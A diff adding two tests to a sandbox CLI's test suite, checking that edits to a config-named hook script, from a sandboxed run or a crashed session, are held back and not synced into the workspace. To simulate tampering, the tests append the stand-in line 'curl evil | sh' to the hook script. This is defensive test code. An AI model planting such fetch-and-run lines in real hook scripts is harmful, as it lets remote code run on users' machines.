@@ -6,9 +6,11 @@
 import * as NodeContext from "@effect/platform-node/NodeContext"
 import { expect, layer } from "@effect/vitest"
 import { Effect } from "effect"
-import { existsSync, readdirSync, readFileSync } from "node:fs"
+import { chmodSync, existsSync, readdirSync, readFileSync } from "node:fs"
 import { join } from "node:path"
 import { expectOk, fixture, json, poll } from "./helpers.js"
+import { alive } from "./processes.js"
+import { shellSession } from "./sessions.js"
 
 const TIMEOUT = 120_000
 const CONFIG = `[sandboxes.dev]\nbackend = "local"\n`
@@ -54,6 +56,66 @@ layer(NodeContext.layer)("held changes and notices", (it) => {
       expect(readFileSync(config, "utf8")).toBe(`${CONFIG}# edited in the sandbox\n`)
       expectOk(yield* cli.run(["session", "stop", id]))
     }), TIMEOUT)
+
+  it.scoped(
+    "a hook script named by a config above the workspace is held back like one the workspace names",
+    () =>
+      Effect.gen(function*() {
+        const cli = yield* fixture()
+        // The config sits above the workspace and names a script inside it: the sandbox edits that script.
+        yield* cli.write("cwd/.sandbox-cli.toml", `${CONFIG}\n[hooks]\nsandbox.prepare = "./ws/hooks/check.sh"\n`)
+        const SCRIPT = "#!/bin/sh\nexit 0\n"
+        const script = yield* cli.write("cwd/ws/hooks/check.sh", SCRIPT)
+        chmodSync(script, 0o755)
+        const ws = join(cli.cwd, "ws")
+        const held = yield* cli.run([
+          "run",
+          "--workspace",
+          ws,
+          "--",
+          "sh",
+          "-c",
+          "echo 'curl evil | sh' >> hooks/check.sh"
+        ])
+        expect(held.code, held.stderr).toBe(0)
+        expect(held.stderr).toMatch(/^warning: held back, not applied: 1 path .*hooks\/check\.sh/m)
+        expect(readFileSync(script, "utf8")).toBe(SCRIPT)
+        const copy = readdirSync(join(ws, "hooks")).find((n) => n.startsWith("check.sh.sandbox-held-"))
+        expect(readFileSync(join(ws, "hooks", copy!), "utf8")).toBe(`${SCRIPT}curl evil | sh\n`)
+      }),
+    TIMEOUT
+  )
+
+  it.scoped(
+    "reconcile's sync-back of a crashed session holds back a hook script its workspace's config names",
+    () =>
+      Effect.gen(function*() {
+        const cli = yield* fixture()
+        yield* cli.write("cwd/.sandbox-cli.toml", `${CONFIG}\n[hooks]\nsandbox.prepare = "./ws/hooks/check.sh"\n`)
+        const SCRIPT = "#!/bin/sh\nexit 0\n"
+        const script = yield* cli.write("cwd/ws/hooks/check.sh", SCRIPT)
+        chmodSync(script, 0o755)
+        const ws = join(cli.cwd, "ws")
+        expectOk(yield* cli.run(["workspace", "add", ws, "--name", "ws"]))
+        const id = yield* shellSession(cli, "ws", "echo 'curl evil | sh' >> hooks/check.sh; echo > edited; sleep 600")
+        const running = yield* poll(
+          cli.run(["session", "status", id, "-o", "json"]),
+          (r) => r.code === 0 && json<{ state: string }>(r).state === "running"
+        )
+        yield* poll(cli.run(["session", "exec", id, "--", "cat", "edited"]), (r) => r.code === 0)
+        const pid = json<{ supervisor: { pid: number } }>(running).supervisor.pid
+        process.kill(pid, "SIGKILL")
+        yield* poll(Effect.sync(() => alive(pid)), (up) => !up)
+
+        yield* cli.run(["reconcile"])
+        expect(json<{ state: string }>(yield* cli.run(["session", "status", id, "-o", "json"])).state).toBe("crashed")
+        expect(readFileSync(join(ws, "edited"), "utf8")).toBe("\n")
+        expect(readFileSync(script, "utf8")).toBe(SCRIPT)
+        const copy = readdirSync(join(ws, "hooks")).find((n) => n.startsWith("check.sh.sandbox-held-"))
+        expect(readFileSync(join(ws, "hooks", copy!), "utf8")).toBe(`${SCRIPT}curl evil | sh\n`)
+      }),
+    TIMEOUT
+  )
 
   it.scoped(
     "a sparse file and a hard link from the sandbox are said: notice lines, notices in JSON",
